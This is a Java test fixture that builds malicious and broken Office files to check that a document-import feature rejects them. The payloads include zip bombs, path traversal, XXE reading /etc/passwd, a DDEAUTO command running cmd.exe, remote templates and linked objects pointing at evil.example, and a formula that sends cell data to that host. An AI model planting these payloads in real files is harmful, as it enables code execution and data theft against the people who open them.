package ru.perechen.documents;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * The corpus of hostile and broken files the import must refuse, each with the refusal a person
 * sees. Built here rather than kept as binaries so that each case says how it is made.
 */
final class BadFiles {

    record Case(String name, String fileName, byte[] bytes, String refusal) {

        @Override
        public String toString() {
            return name;
        }
    }

    private static final String HEADER = "Наименование конкретного процесса";

    private BadFiles() {
    }

    static List<Case> all() {
        byte[] xlsx = Files.xlsx(List.of(List.of(HEADER, "Точка взаимодействия"), List.of("Процесс", "Сайт")), List.of());
        byte[] docx = Files.docx(List.of(List.of(List.of(HEADER, "Точка взаимодействия"), List.of("Процесс", "Сайт"))));
        byte[] ole2 = new byte[2048];
        System.arraycopy(new byte[]{(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, 0, ole2, 0, 8);
        byte[] encrypted = ole2.clone();
        byte[] marker = "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE);
        System.arraycopy(marker, 0, encrypted, 1024, marker.length);
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("empty file", "list.xlsx", new byte[0], "import.reject.empty"));
        cases.add(new Case("over 10 MB", "list.xlsx", new byte[UploadGuard.MAX_BYTES + 1], "import.reject.too-large"));
        cases.add(new Case("a text file", "list.txt", "text".getBytes(StandardCharsets.UTF_8), "import.reject.extension"));
        cases.add(new Case("no extension", "list", xlsx, "import.reject.extension"));
        cases.add(new Case("macro-enabled workbook by name", "list.xlsm", xlsx, "import.reject.macro"));
        cases.add(new Case("macro-enabled document by name", "list.docm", docx, "import.reject.macro"));
        cases.add(new Case("legacy .xls by name", "list.xls", ole2, "import.reject.legacy"));
        cases.add(new Case("legacy .doc by name", "list.doc", ole2, "import.reject.legacy"));
        cases.add(new Case("legacy binary behind .xlsx", "list.xlsx", ole2, "import.reject.legacy"));
        cases.add(new Case("encrypted workbook", "list.xlsx", encrypted, "import.reject.encrypted"));
        cases.add(new Case("encrypted document", "list.docx", encrypted, "import.reject.encrypted"));
        cases.add(new Case("a PDF behind .xlsx", "list.xlsx", "%PDF-1.7\n%âãÏÓ\n1 0 obj".getBytes(StandardCharsets.ISO_8859_1),
                "import.reject.not-office"));
        cases.add(new Case("HTML behind .xlsx", "list.xlsx", "<html><body><table><tr><td>1</td></tr></table></body></html>"
                .getBytes(StandardCharsets.UTF_8), "import.reject.not-office"));
        cases.add(new Case("CSV behind .xlsx", "list.xlsx", "Процесс;Точка\nА;Б\n".getBytes(StandardCharsets.UTF_8),
                "import.reject.not-office"));
        cases.add(new Case("random bytes behind .docx", "list.docx", random(4096), "import.reject.not-office"));
        cases.add(new Case("an archive without content types", "list.xlsx", Files.zip("xl/workbook.xml", "<workbook/>"),
                "import.reject.not-office"));
        cases.add(new Case("an archive of a photo", "list.docx", Files.zip("[Content_Types].xml", "<Types/>", "photo.jpg", "jpeg"),
                "import.reject.not-office"));
        cases.add(new Case("a document behind .xlsx", "list.xlsx", docx, "import.reject.wrong-kind"));
        cases.add(new Case("a workbook behind .docx", "list.docx", xlsx, "import.reject.wrong-kind"));
        String[] many = new String[2 * (UploadGuard.MAX_ENTRIES + 1)];
        for (int i = 0; i < many.length; i += 2) {
            many[i] = "xl/media/part" + i + ".xml";
            many[i + 1] = "<a/>";
        }
        cases.add(new Case("too many entries", "list.xlsx", Files.zip(many), "import.reject.too-many-entries"));
        cases.add(new Case("a zip bomb", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/media/zeros.bin", new byte[40 * 1024 * 1024])),
                "import.reject.bomb"));
        cases.add(new Case("path traversal", "list.xlsx", rezip(xlsx, parts -> parts.put("../../etc/cron.d/evil", new byte[1])),
                "import.reject.bad-name"));
        cases.add(new Case("an absolute name", "list.xlsx", rezip(xlsx, parts -> parts.put("/etc/passwd", new byte[1])),
                "import.reject.bad-name"));
        cases.add(new Case("a backslash name", "list.xlsx", rezip(xlsx, parts -> parts.put("xl\\..\\evil.xml", new byte[1])),
                "import.reject.bad-name"));
        cases.add(new Case("a control character in a name", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/a\u0001.xml", new byte[1])),
                "import.reject.bad-name"));
        cases.add(new Case("duplicate names", "list.xlsx", rezip(xlsx, parts -> parts.put("XL/workbook.xml",
                parts.get("xl/workbook.xml"))), "import.reject.duplicate-name"));
        cases.add(new Case("a VBA project inside", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/vbaProject.bin", new byte[64])),
                "import.reject.macro"));
        cases.add(new Case("macro-enabled content type", "list.xlsx", rezip(xlsx, parts -> replace(parts, "[Content_Types].xml",
                "sheet.main+xml", "sheet.macroEnabled.main+xml")), "import.reject.macro"));
        cases.add(new Case("ActiveX controls", "list.docx", rezip(docx, parts -> parts.put("word/activeX/activeX1.xml",
                "<ax/>".getBytes(StandardCharsets.UTF_8))), "import.reject.active-content"));
        cases.add(new Case("external links", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/externalLinks/externalLink1.xml",
                "<externalLink/>".getBytes(StandardCharsets.UTF_8))), "import.reject.external-links"));
        cases.add(new Case("a DTD in the workbook", "list.xlsx", rezip(xlsx, parts -> replace(parts, "xl/workbook.xml",
                "<workbook", "<!DOCTYPE workbook [<!ELEMENT workbook ANY>]><workbook")), "import.reject.dtd"));
        cases.add(new Case("an external entity (XXE)", "list.docx", rezip(docx, parts -> replace(parts, "word/document.xml",
                "<w:document", "<!DOCTYPE d [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><w:document")), "import.reject.dtd"));
        cases.add(new Case("a billion laughs", "list.xlsx", rezip(xlsx, parts -> replace(parts, "[Content_Types].xml", "<Types",
                "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><Types")), "import.reject.dtd"));
        cases.add(new Case("a DDE field", "list.docx", rezip(docx, parts -> replace(parts, "word/document.xml", "<w:t>Процесс</w:t>",
                "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText>")), "import.reject.dde"));
        cases.add(new Case("an attached template on the web", "list.docx", rezip(docx, parts -> parts.put("word/_rels/settings.xml.rels",
                rels("attachedTemplate", "https://evil.example/t.dotm"))), "import.reject.external-template"));
        cases.add(new Case("an attached template on the disk", "list.docx", rezip(docx, parts -> parts.put("word/_rels/settings.xml.rels",
                rels("attachedTemplate", "file:///C:/Users/Public/macros.dotm"))), "import.reject.external-file"));
        cases.add(new Case("an attached template on a share", "list.docx", rezip(docx, parts -> parts.put("word/_rels/settings.xml.rels",
                rels("attachedTemplate", "\\\\evil.example\\share\\t.dotx"))), "import.reject.external-file"));
        cases.add(new Case("a file target hidden by a character reference", "list.docx", rezip(docx, parts -> parts.put(
                "word/_rels/settings.xml.rels", rels("attachedTemplate", "file&#58;//evil.example/share/t.dotx"))),
                "import.reject.external-file"));
        cases.add(new Case("an external image in a document", "list.docx", rezip(docx, parts -> parts.put("word/_rels/header1.xml.rels",
                rels("image", "https://evil.example/pixel.png"))), "import.reject.external-image"));
        cases.add(new Case("an external image in a workbook drawing", "list.xlsx", rezip(xlsx, parts -> parts.put(
                "xl/drawings/_rels/drawing1.xml.rels", rels("image", "http://evil.example/pixel.png"))), "import.reject.external-image"));
        cases.add(new Case("a linked OLE object", "list.docx", rezip(docx, parts -> parts.put("word/_rels/footer1.xml.rels",
                rels("oleObject", "https://evil.example/book.xlsx"))), "import.reject.external-object"));
        cases.add(new Case("an external frame", "list.docx", rezip(docx, parts -> parts.put("word/_rels/webSettings.xml.rels",
                rels("frame", "https://evil.example/frame.docx"))), "import.reject.external-frame"));
        cases.add(new Case("an external subdocument", "list.docx", rezip(docx, parts -> parts.put("word/_rels/footer2.xml.rels",
                rels("subDocument", "https://evil.example/part.docx"))), "import.reject.external-subdocument"));
        cases.add(new Case("another kind of external relationship", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/_rels/extra.xml.rels",
                rels("customXml", "https://evil.example/data.xml"))), "import.reject.external-target"));
        cases.add(new Case("a script hyperlink", "list.docx", rezip(docx, parts -> parts.put("word/_rels/footer3.xml.rels",
                rels("hyperlink", " javascript:alert(1)"))), "import.reject.external-hyperlink"));
        cases.add(new Case("a data connection", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/connections.xml",
                "<connections><connection id=\"1\" name=\"db\"/></connections>".getBytes(StandardCharsets.UTF_8))),
                "import.reject.external-data"));
        cases.add(new Case("an INCLUDEPICTURE field", "list.docx", rezip(docx, parts -> replace(parts, "word/document.xml",
                "<w:t>Процесс</w:t>", "<w:instrText> INCLUDEPICTURE \"https://evil.example/a.png\" </w:instrText>")),
                "import.reject.external-field"));
        cases.add(new Case("a VML picture from a share", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/drawings/vmlDrawing1.vml",
                "<xml><v:shape><v:imagedata src=\"file://evil.example/share/a.png\"/></v:shape></xml>".getBytes(StandardCharsets.UTF_8))),
                "import.reject.external-file"));
        cases.add(new Case("an encrypted zip entry", "list.xlsx", encryptedEntry(xlsx), "import.reject.encrypted"));
        cases.add(new Case("a truncated workbook", "list.xlsx", Arrays.copyOf(xlsx, xlsx.length / 2), "import.reject.corrupted"));
        cases.add(new Case("a truncated document", "list.docx", Arrays.copyOf(docx, docx.length - 200), "import.reject.corrupted"));
        cases.add(new Case("garbage instead of the sheet", "list.xlsx", rezip(xlsx, parts -> parts.put("xl/worksheets/sheet1.xml",
                "<worksheet><sheetData><row".getBytes(StandardCharsets.UTF_8))), "import.reject.corrupted"));
        cases.add(new Case("garbage instead of the document", "list.docx", rezip(docx, parts -> parts.put("word/document.xml",
                "not xml at all".getBytes(StandardCharsets.UTF_8))), "import.reject.corrupted"));
        cases.add(new Case("a formula cell", "list.xlsx", formula(), "import.reject.formula"));
        cases.add(new Case("too many rows", "list.xlsx", manyRows(), "import.reject.too-many-rows"));
        cases.add(new Case("more cells than a list holds", "list.xlsx", manyCells(), "import.reject.too-many-cells"));
        cases.add(new Case("a table of more cells than a list holds", "list.docx", manyDocumentCells(docx), "import.reject.too-many-cells"));
        return cases;
    }

    private static byte[] random(int size) {
        byte[] bytes = new byte[size];
        new java.util.Random(42).nextBytes(bytes);
        bytes[0] = 'M';
        return bytes;
    }

    private static byte[] formula() {
        try (XSSFWorkbook book = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("Перечень");
            var header = sheet.createRow(0);
            header.createCell(0).setCellValue(HEADER);
            header.createCell(1).setCellValue("Точка взаимодействия");
            var row = sheet.createRow(1);
            row.createCell(0).setCellValue("Процесс");
            row.createCell(1).setCellFormula("HYPERLINK(\"http://evil.example/?\"&A1,\"Сайт\")");
            book.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Rows under the limit, but more filled cells than {@link TableBudget} lets one parse hold (hidden sheets count too). */
    private static byte[] manyCells() {
        try (SXSSFWorkbook book = new SXSSFWorkbook(100); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("Перечень");
            int columns = TableReader.MAX_COLUMNS;
            for (int r = 0; r * columns <= TableBudget.MAX_CELLS; r++) {
                var row = sheet.createRow(r);
                for (int c = 0; c < columns; c++) {
                    row.createCell(c).setCellValue(Integer.toString(r * columns + c, 36));
                }
            }
            book.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] manyDocumentCells(byte[] docx) {
        StringBuilder xml = new StringBuilder(32 * 1024 * 1024).append("<?xml version=\"1.0\" encoding=\"UTF-8\"?>")
                .append("<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:tbl>");
        int columns = TableReader.MAX_COLUMNS;
        for (int r = 0, n = 0; r * columns <= TableBudget.MAX_CELLS; r++) {
            xml.append("<w:tr>");
            for (int c = 0; c < columns; c++) {
                xml.append("<w:tc><w:p><w:r><w:t>").append(Integer.toString(n++, 36)).append("</w:t></w:r></w:p></w:tc>");
            }
            xml.append("</w:tr>");
        }
        xml.append("</w:tbl></w:body></w:document>");
        return rezip(docx, parts -> parts.put("word/document.xml", xml.toString().getBytes(StandardCharsets.UTF_8)));
    }

    private static byte[] manyRows() {
        try (SXSSFWorkbook book = new SXSSFWorkbook(100); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("Перечень");
            for (int r = 0; r <= TableReader.MAX_ROWS; r++) {
                sheet.createRow(r).createCell(0).setCellValue("строка " + r);
            }
            book.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A relationship part with one relationship of {@code type} to a target outside the file. */
    static byte[] rels(String type, String target) {
        return ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId99\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" + type
                + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>").getBytes(StandardCharsets.UTF_8);
    }

    /** Sets the "encrypted" flag of the first entry's local header. */
    private static byte[] encryptedEntry(byte[] zip) {
        byte[] copy = zip.clone();
        copy[6] |= 1;
        return copy;
    }

    private static void replace(Map<String, byte[]> parts, String name, String from, String to) {
        String text = new String(parts.get(name), StandardCharsets.UTF_8);
        if (!text.contains(from)) {
            throw new IllegalStateException(name + " has no " + from);
        }
        parts.put(name, text.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to))
                .getBytes(StandardCharsets.UTF_8));
    }

    /** The archive's parts changed by {@code edit}, written again. */
    static byte[] rezip(byte[] zip, Consumer<Map<String, byte[]>> edit) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            ZipEntry entry;
            while ((entry = in.getNextEntry()) != null) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        edit.accept(parts);
        try (ByteArrayOutputStream out = new ByteArrayOutputStream(); ZipOutputStream zipOut = new ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                zipOut.putNextEntry(new ZipEntry(part.getKey()));
                zipOut.write(part.getValue());
                zipOut.closeEntry();
            }
            zipOut.finish();
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
